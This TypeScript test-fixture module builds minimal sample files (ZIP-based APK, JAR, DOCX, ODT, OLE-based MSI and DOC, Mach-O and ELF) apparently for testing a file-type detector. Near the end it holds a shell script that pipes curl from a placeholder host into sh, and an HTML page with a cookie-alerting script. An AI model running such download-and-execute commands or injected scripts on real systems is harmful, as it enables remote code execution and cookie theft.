import { randomBytes } from 'node:crypto';
import { crc32 } from 'node:zlib';

/** A ZIP of stored (uncompressed) entries with its central directory, as zip tools write it. */
export function zipOf(entries: ReadonlyArray<readonly [name: string, content: string]>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, content] of entries) {
    const n = Buffer.from(name, 'utf8');
    const data = Buffer.from(content, 'utf8');
    const crc = crc32(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(n.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(n.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, n, data);
    centrals.push(central, n);
    offset += 30 + n.length + data.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

export const APK = zipOf([
  ['AndroidManifest.xml', '\u0003\u0000\u0008\u0000'],
  ['classes.dex', 'dex\n035\u0000'],
  ['META-INF/CERT.SF', 'Signature-Version: 1.0'],
]);
export const JAR = zipOf([
  ['META-INF/', ''],
  ['META-INF/MANIFEST.MF', 'Manifest-Version: 1.0\nMain-Class: Evil\n'],
  ['Evil.class', '\u00ca\u00fe\u00ba\u00be'],
]);
export const DOCX = zipOf([
  ['[Content_Types].xml', '<?xml version="1.0"?><Types/>'],
  ['_rels/.rels', '<Relationships/>'],
  ['word/document.xml', '<w:document/>'],
]);
export const ODT = zipOf([
  ['mimetype', 'application/vnd.oasis.opendocument.text'],
  ['META-INF/manifest.xml', '<manifest:manifest/>'],
  ['content.xml', '<office:document-content/>'],
]);

/** An OLE compound file (512-byte sectors) whose root directory entry carries `classId` (16 bytes). */
function compoundFileOf(classId: Buffer): Buffer {
  const file = Buffer.alloc(512 * 3);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(file, 0);
  file.writeUInt16LE(0x3e, 0x18);
  file.writeUInt16LE(3, 0x1a);
  file.writeUInt16LE(0xfffe, 0x1c);
  file.writeUInt16LE(9, 0x1e);
  file.writeUInt16LE(6, 0x20);
  file.writeUInt32LE(0, 0x30); // the directory starts at sector 0, right after the header
  const root = 512;
  Buffer.from('Root Entry', 'utf16le').copy(file, root);
  file.writeUInt16LE(22, root + 0x40);
  file[root + 0x42] = 5;
  classId.copy(file, root + 0x50);
  return file;
}

/** {000C1084-0000-0000-C000-000000000046}: a Windows Installer package. */
export const MSI = compoundFileOf(Buffer.from('84100c0000000000c000000000000046', 'hex'));
/** {00020906-0000-0000-C000-000000000046}: a Word 97-2003 document. */
export const DOC = compoundFileOf(Buffer.from('0609020000000000c000000000000046', 'hex'));

export const MACH_O = Buffer.concat([
  Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0, 0, 0x01]),
  randomBytes(2000),
]);
export const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), randomBytes(2000)]);
export const SCRIPT = Buffer.from('#!/bin/sh\ncurl -s http://example.invalid/x | sh\n', 'latin1');
export const HTML = Buffer.from(
  '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>',
);
